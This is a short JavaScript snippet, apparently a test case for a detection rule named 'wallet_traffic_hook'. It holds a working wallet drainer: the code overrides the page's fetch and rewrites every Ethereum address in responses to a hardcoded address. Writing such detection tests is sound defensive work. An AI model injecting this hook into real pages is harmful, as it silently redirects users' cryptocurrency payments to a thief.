// A drainer: the page's fetch replaced, responses' addresses swapped for its own list.
const OWN = ['0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976', '0xa29eeFb3f21Dc8FA8bce065Db4f4354AA683c024'];
const ADDR = /\b0x[a-fA-F0-9]{40}\b/g;
const orig = window.fetch;
// ruleid: wallet_traffic_hook
window.fetch = async (...args) => {
  const res = await orig(...args);
  const text = (await res.text()).replace(ADDR, () => OWN[0]);
  return new Response(text, res);
};
